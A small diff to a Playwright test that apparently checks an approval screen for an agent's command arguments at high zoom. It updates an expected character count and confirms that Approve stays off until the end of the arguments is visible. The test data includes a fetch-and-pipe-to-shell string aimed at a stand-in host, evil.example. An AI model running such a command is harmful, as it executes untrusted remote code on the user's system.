@@ -65,7 +65,7 @@ test('C57 at 1024x700 and 400 % every character is reachable without going sidew
   });
   await expect.poll(() => page.evaluate(() => Math.round(innerWidth))).toBe(256);
   const shown = page.getByTestId('arguments');
-  await expect(shown).toContainText('201 characters, 1 line');
+  await expect(shown).toContainText('200 characters, 1 line');
   await expect(shown).toContainText('https://evil.example/x.sh | sh');
   // Until its end was on screen, Approve is off and says so.
   await expect(page.getByTestId('approve-off')).toContainText('end of the arguments');
